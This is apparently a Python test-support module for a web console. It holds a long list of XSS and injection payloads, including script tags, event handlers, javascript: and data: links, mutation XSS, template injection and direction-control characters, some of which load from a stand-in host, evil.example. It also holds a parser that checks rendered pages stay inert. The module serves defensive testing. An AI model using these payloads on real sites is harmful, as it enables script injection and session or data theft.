"""Texts that try to run something, load something or rearrange a page; and what must not be on any page.

`PAYLOADS` go wherever people and agents write: bodies, titles, tags, aliases, agent names, task texts,
findings, file names. `assert_inert(html)` parses a page as a browser would and refuses what can act.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from html.parser import HTMLParser
from typing import Final

#: Never to be seen as the name of a request, a function called or an element: what payloads would do.
MARKER: Final = "pwned"

PAYLOADS: Final[tuple[str, ...]] = (
    # script
    "<script>pwned()</script>",
    "<SCRIPT SRC=http://evil.example/pwned.js></SCRIPT>",
    "<script/src=data:,pwned()>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<<script>pwned();//<</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "'\"><script>pwned()</script>",
    "<script\x0c>pwned()</script\x0c>",
    '<noscript><p title="</noscript><script>pwned()</script>">',
    # event handlers
    "<img src=x onerror=pwned()>",
    "<img src=x oNeRrOr=pwned()//",
    "<img/src='x'/onerror='pwned()'>",
    "<body onload=pwned()>",
    "<svg onload=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<marquee onstart=pwned()>x</marquee>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<a href=# onmouseover=pwned()>x</a>",
    "<p style=animation-name:x onanimationstart=pwned()>x</p>",
    '" onmouseover="pwned()',
    "' onfocus='pwned()' autofocus='",
    "` onmouseover=pwned() `",
    # links
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](\x01javascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml,<svg/onload=pwned()>)",
    "<javascript:pwned()>",
    "<a href=javascript:pwned()>x</a>",
    '<a href="jav&#x0A;ascript:pwned()">x</a>',
    '<a href=" &#14; javascript:pwned()">x</a>',
    "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "[[javascript:pwned()]]",
    "[[x|<img src=x onerror=pwned()>]]",
    '[[x" onmouseover="pwned()]]',
    "![x](javascript:pwned())",
    "![x](http://evil.example/pwned.png)",
    "![x](//evil.example/pwned.png)",
    "![[../../../etc/pwned.png]]",
    "[r]: javascript:pwned()\n\n[r]",
    '[x](<javascript:pwned()> "t")',
    # pictures and frames
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<frameset onload=pwned()></frameset>",
    "<img src=/console/files/../logout>",
    "<img srcset='http://evil.example/pwned.png 1x'>",
    "<picture><source srcset=http://evil.example/pwned.png></picture>",
    "<video poster=http://evil.example/pwned.png src=http://evil.example/pwned.mp4></video>",
    # what leads or loads elsewhere
    "<meta http-equiv=refresh content='0;url=http://evil.example/pwned'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/pwned.css>",
    "<form action=http://evil.example/><input name=csrf><button>pwned</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<isindex action=javascript:pwned() type=image>",
    # style
    "<style>@import 'http://evil.example/pwned.css';</style>",
    '<p style="background:url(http://evil.example/pwned)">x</p>',
    '<div style="position:fixed;inset:0;z-index:99">pwned</div>',
    '<p class="notice side skip" id=main>x</p>',
    # mutations
    '<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=pwned() src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    "<table><td><style></td><img src=x onerror=pwned()></style></table>",
    '<a title="`<img src=x onerror=pwned()>`">x</a>',
    "<template><script>pwned()</script></template>",
    "<xmp><img src=x onerror=pwned()></xmp>",
    "<plaintext><img src=x onerror=pwned()>",
    # entities, encodings, templates
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "\u003cscript\u003epwned()\u003c/script\u003e",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% include 'pwned' %}{{ config }}",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "%3Cscript%3Epwned()%3C/script%3E",
    # Markdown that becomes HTML
    "```html onload=pwned()\n<script>pwned()</script>\n```",
    '```" onmouseover="pwned()\nx\n```',
    '> [!note" onload="pwned()] x',
    "> [!note] <img src=x onerror=pwned()>\n> <script>pwned()</script>",
    'x[^" onload="pwned()]\n\n[^" onload="pwned()]: <script>pwned()</script>',
    "# <img src=x onerror=pwned()> {#x onload=pwned()}",
    "| a |\n|---|\n| <img src=x onerror=pwned()> |",
    "- [ ] <input onfocus=pwned() autofocus>",
    "`<script>pwned()</script>` ``<img src=x onerror=pwned()>``",
    '<http://evil.example/"onmouseover="pwned()>',
    "<a\nhref\n=\njavascript:pwned()\n>x</a>",
    "<!-- <img src=x onerror=pwned()> --!><script>pwned()</script>",
    "<![CDATA[<script>pwned()</script>]]>",
    '<?xml-stylesheet href="javascript:pwned()"?>',
    # direction and control characters
    "\u202egnp.exe \u202d\u2066 pwned \u2069",
    "admin\u200b\u200f\u200e\u2028pwned\u2029",
    "\u061c\u0000\u0007\u001b[31mpwned",
)

#: A line without end, for wherever a text of that length is taken.
LONG_LINE: Final = "<img src=x onerror=pwned()> " * 3_700

#: Elements of no page, and those that only the frame may have.
_NEVER: Final = frozenset({
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "audio", "video", "source",
    "picture", "template", "noembed", "xmp", "plaintext", "marquee", "isindex", "foreignobject", "animate",
    "style", "track", "portal", "noscript",
})  # fmt: skip
_ADDRESSES: Final = frozenset({"href", "src", "action", "formaction", "xlink:href", "poster", "data", "cite"})
_SAFE_ADDRESS: Final = re.compile(r"(?:/console(?:/|$)|/\?|\?|#|https?://|mailto:|$)")
_HAS_SCHEME: Final = re.compile(r"[\x00-\x20]*[A-Za-z][A-Za-z0-9+.\-\s]*:")


class _Page(HTMLParser):
    """Collects what of a page can act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.headings = 0

    def handle_starttag(self, tag: str, attributes: Sequence[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attributes}
        self.headings += tag == "h1"
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/console/static/"):
            self.found.append(f"<script {given}>")
        if tag == "link" and not given.get("href", "").startswith("/console/static/"):
            self.found.append(f"<link {given}>")
        if tag == "meta" and "http-equiv" in given:
            self.found.append(f"<meta {given}>")
        if tag == "form" and not given.get("action", "/console/").startswith("/console/"):
            self.found.append(f"<form {given}>")
        if tag in ("img", "input") and given.get("src", "/console/files/x").find("/console/files/"):
            self.found.append(f"<{tag} {given}>")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "srcset", "ping", "background"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in _ADDRESSES and not self._is_safe(tag, value):
                self.found.append(f"<{tag} {name}={value!r}>")

    @staticmethod
    def _is_safe(tag: str, value: str) -> bool:
        if tag in ("script", "link", "img"):
            return value.startswith(("/console/static/", "/console/files/")) and ".." not in value
        return bool(_SAFE_ADDRESS.match(value)) or not _HAS_SCHEME.match(value)


def dangers(html: str) -> list[str]:
    """What of a page could run, load or lead where it must not."""
    page = _Page()
    page.feed(html)
    page.close()
    return page.found


def assert_inert(html: str, *, where: str = "") -> None:
    """A page on which nothing that others wrote can act, of at most 200 kB, with one first heading."""
    page = _Page()
    page.feed(html)
    page.close()
    assert not page.found, (where, page.found[:5])
    assert page.headings == 1, (where, page.headings)
    assert len(html.encode()) <= 200_000, (where, len(html.encode()))
    for hidden in "\u202e\u202d\u2066\x00\x07\x1b":
        assert hidden not in _without_prose(html), (where, hex(ord(hidden)))


def _without_prose(html: str) -> str:
    """The page without the text of a note, in which every character may stand (its block contains it)."""
    return re.sub(r'<article class="prose".*?</article>', "", html, flags=re.S)
